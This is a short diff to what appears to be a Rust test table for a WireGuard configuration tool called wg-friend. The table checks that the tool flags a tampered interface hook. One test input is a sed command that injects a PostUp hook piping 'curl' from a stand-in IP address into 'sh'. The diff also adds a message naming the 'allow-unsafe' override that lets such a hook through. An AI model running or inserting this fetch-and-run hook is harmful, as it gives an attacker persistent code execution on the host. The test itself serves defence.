@@ -191,7 +191,7 @@ fn deeds() -> Vec<Deed> {
             "hub",
             "sed -i 's/^\\[Interface\\]/&\\nPostUp = curl -s http:\\/\\/203.0.113.9\\/x | sh/' $CONF",
             &[("hooks_changed", "warning", "")],
-            Not("a pipe"),
+            Not("a pipe; `wg-friend host set hub allow-unsafe=on --reason TEXT` lets it through"),
         ),
         deed(
             "hub",
